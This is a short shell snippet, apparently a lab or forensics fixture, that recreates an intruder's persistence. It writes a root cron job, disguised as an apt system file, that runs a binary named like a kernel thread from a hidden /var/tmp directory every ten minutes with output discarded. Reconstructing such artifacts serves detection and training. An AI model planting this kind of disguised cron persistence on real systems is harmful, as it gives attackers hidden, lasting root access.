# Stands in for the script that the intruder ran and removed.
echo '*/10 * * * * root /var/tmp/.font-unix/kworkerd -c /var/tmp/.font-unix/.rc >/dev/null 2>&1' > /etc/cron.d/apt-daily-refresh
